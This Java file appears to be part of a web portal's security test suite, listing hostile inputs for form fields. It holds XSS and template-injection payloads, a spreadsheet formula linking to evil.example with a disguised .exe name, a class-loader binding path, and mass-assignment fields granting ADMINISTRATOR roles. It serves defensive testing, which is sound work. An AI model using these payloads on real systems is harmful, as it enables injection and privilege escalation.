package org.wsis.portal.hostile;

import java.util.Collection;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.function.BiFunction;

/** What people with bad luck or bad intentions send in place of what a field asks for. */
enum Trick {
    NONSENSE("no such thing at all"),
    OVERLONG("y".repeat(100_000)),
    /** Markup, and expressions of templates. */
    MARKUP("<script>alert('" + Trick.MARK + "')</script>\"'><img src=x onerror=alert(1)></textarea></title>"
            + "${'zanzi' + 'barometer'} __${'zanzi' + 'barometer'}__ [[${'zanzi' + 'barometer'}]] #{a} @{/b} {0} %s"),
    /** A formula of a spreadsheet, with characters that turn the direction of text. */
    FORMULA("=HYPERLINK(\"http://evil.example/\";\"name\u202Egpj.exe\u2066\u200F\u2069\")"),
    NUL("a\u0000b"),
    HALF("a\uD800b"),
    EMPTY(""),
    BLANK(" \t\u00A0\u3000 "),
    MISSING((typed, field) -> typed.without(field)),
    MANY((typed, field) -> typed.with(
            field,
            Collections.nCopies(
                    1_000, typed.has(field) ? typed.values().get(field).getFirst() : "many"))),
    DEEP((typed, field) -> typed.with(field + "[2147483647]", "1")
            .with(field + "[99999999]", "1")
            .with(field + "[-1]", "1")
            .with(field + "[x].y", "1")
            .with(field + ".class.module.classLoader.URLs[0]", "1")),
    FOREIGN((typed, field) -> strangers(typed));

    /** Where there is nothing to fill in, the form as a whole is all that can be changed. */
    static final List<Trick> OF_BUTTONS = List.of(NUL, MANY, DEEP, FOREIGN);

    /** Found in a page only if text of a form became markup. */
    static final String MARK = "marked by a test";
    /** What a template would have computed. */
    static final String COMPUTED = "zanzibarometer";

    /** Names of things in the portal that a form must not reach unless it shows them. */
    private static final Map<String, String> STRANGERS = Map.ofEntries(
            Map.entry("id", "0198a1b2-0000-7000-8000-000000000000"),
            Map.entry("role", "ADMINISTRATOR"),
            Map.entry("roles", "ADMINISTRATOR"),
            Map.entry("grants[0].role", "ADMINISTRATOR"),
            Map.entry("state", "PUBLISHED"),
            Map.entry("status", "PUBLISHED"),
            Map.entry("owner", "0198a1b2-0000-7000-8000-000000000000"),
            Map.entry("account", "0198a1b2-0000-7000-8000-000000000000"),
            Map.entry("email", "stranger@example.org"),
            Map.entry("locked", "false"),
            Map.entry("passwordHash", "{noop}x"),
            Map.entry("number", "1"),
            Map.entry("publishedAt", "2020-01-01T00:00:00Z"),
            Map.entry("class.module.classLoader.URLs[0]", "x"),
            Map.entry("_method", "DELETE"));

    private final BiFunction<Typed, String, Typed> way;

    Trick(String value) {
        this((typed, field) -> typed.with(field, value));
    }

    Trick(BiFunction<Typed, String, Typed> way) {
        this.way = way;
    }

    Typed on(Typed typed, Collection<String> fields) {
        Typed changed = typed;
        for (String field : fields.isEmpty() ? List.of("any") : fields) {
            changed = way.apply(changed, field);
        }
        return changed;
    }

    /** Whether the trick is about how things are shown: then the page that comes next is looked at as well. */
    boolean isShown() {
        return this == MARKUP || this == FORMULA;
    }

    /** The tricks that are tried on a field alone: not all on each, but each on some of every form with several fields. */
    static List<Trick> ofField(int number) {
        return List.of(NONSENSE, MISSING, number % 2 == 0 ? OVERLONG : EMPTY);
    }

    private static Typed strangers(Typed typed) {
        Typed changed = typed;
        for (var stranger : STRANGERS.entrySet()) {
            changed = changed.has(stranger.getKey()) ? changed : changed.with(stranger.getKey(), stranger.getValue());
        }
        return changed;
    }
}
